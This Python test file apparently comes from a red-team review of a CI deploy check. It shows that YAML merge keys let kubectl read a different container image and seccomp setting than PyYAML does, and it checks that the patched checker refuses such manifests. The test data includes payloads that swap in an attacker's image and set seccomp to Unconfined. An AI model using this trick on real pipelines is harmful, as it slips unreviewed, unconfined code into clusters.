"""Red team 12: a manifest PyYAML and kubectl read as two different Deployments.

``ci deploy --check`` reads the committed manifests with PyYAML; ``kubectl apply`` reads them
with Go's YAML (``sigs.k8s.io/yaml``). They part on YAML's merge key: where a mapping holds an
explicit key and, after it, ``<<: {key: other}``, PyYAML keeps the explicit value and kubectl
takes the merged one (checked here with the real ``kubectl label --local -o json`` when kubectl
is installed; kubectl 1.34). No alias is needed (``<<`` takes a mapping written in place), so
row 55's alias refusal (a container reached twice) did not see it either. With the renderer
edited to write such text (no drift, as row 58 says a pull request can):

- ``image: gates-serve:latest`` then ``<<: {image: ghcr.io/attacker/...}``: the check saw the
  allowed image (row 67), the cluster ran the attacker's;
- ``seccompProfile: {type: RuntimeDefault, <<: {type: Unconfined}}``: the check saw
  RuntimeDefault, the cluster ran unconfined;
- a merge from an anchored mapping elsewhere (``metadata.annotations: &a {image: ...}``).

A key given twice (``image:`` written twice) is refused too, though kubectl and PyYAML both keep
the last: other YAML readers keep the first or refuse it.

Red before: exit 0 for all four. Fixed in ``gates/ci/deploy.py``: a manifest holding a merge
key, an alias or a key given twice in one mapping is refused before it is built (the renderer
writes none), one line naming file and line.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from gates.ci import deploy
from pipeline.config import LoadedPolicy, load_policy
from tests.conftest import REPO
from tests.deploy_support import deploy_check, edit_deployment_text, render_into

# By digest since 7 December (platform17; the committed form names the all-zero digest).
COMMITTED_IMAGE = "gates-serve@sha256:" + "0" * 64
IMAGE_LINE = f"        image: {COMMITTED_IMAGE}\n"
SECCOMP = "          seccompProfile:\n            type: RuntimeDefault\n"
EVIL = "ghcr.io/attacker/serve:latest"

# (id, the rendered deployment.yaml's text -> the edited one)
EDITS = [
    (
        "merged-image",
        lambda t: t.replace(IMAGE_LINE, IMAGE_LINE + f"        <<: {{image: {EVIL}}}\n"),
    ),
    (
        "merged-seccomp",
        lambda t: t.replace(SECCOMP, SECCOMP + "            <<: {type: Unconfined}\n"),
    ),
    (
        "anchored-annotations",
        lambda t: t.replace(
            "metadata:\n", f"metadata:\n  annotations: &a {{image: {EVIL}}}\n", 1
        ).replace(IMAGE_LINE, IMAGE_LINE + "        <<: *a\n"),
    ),
    ("a-key-twice", lambda t: t.replace(IMAGE_LINE, IMAGE_LINE + IMAGE_LINE)),
]


@pytest.fixture(scope="module")
def loaded() -> LoadedPolicy:
    return load_policy(REPO / "policy.toml")


def _project(root: Path, monkeypatch: pytest.MonkeyPatch, loaded: LoadedPolicy, edit) -> Path:
    """The renderer edited to write ``edit``'s text for deployment.yaml: no drift."""
    edit_deployment_text(monkeypatch, edit)
    return render_into(root, loaded)


@pytest.mark.parametrize("edit", [e[1] for e in EDITS], ids=[e[0] for e in EDITS])
def test_a_manifest_kubectl_reads_otherwise_is_refused(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    loaded: LoadedPolicy,
    capsys: pytest.CaptureFixture[str],
    edit,
) -> None:
    code, out = deploy_check(_project(tmp_path, monkeypatch, loaded, edit), capsys)
    assert code == 1, out
    assert f"{deploy.K8S_DIR}/deployment.yaml:" in out, out
    assert "expected no YAML" in out, out


KUBECTL = shutil.which("kubectl")


@pytest.mark.skipif(KUBECTL is None, reason="kubectl is not installed")
def test_the_premise_kubectl_takes_the_merged_image(tmp_path: Path) -> None:
    """What the cluster would run: the real kubectl, offline (``label --local``), reads the
    merged image where PyYAML reads the allowed one."""
    import yaml

    text = EDITS[0][1](
        deploy.render_deploy(load_policy(REPO / "policy.toml"))[f"{deploy.K8S_DIR}/deployment.yaml"]
    )
    path = tmp_path / "deployment.yaml"
    path.write_text(text, encoding="utf-8")
    done = subprocess.run(
        [str(KUBECTL), "label", "--local", "-f", str(path), "zz=1", "-o", "json"],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    seen = json.loads(done.stdout)["spec"]["template"]["spec"]["containers"][0]["image"]
    ours = yaml.safe_load(text)["spec"]["template"]["spec"]["containers"][0]["image"]
    assert (seen, ours) == (EVIL, COMMITTED_IMAGE)
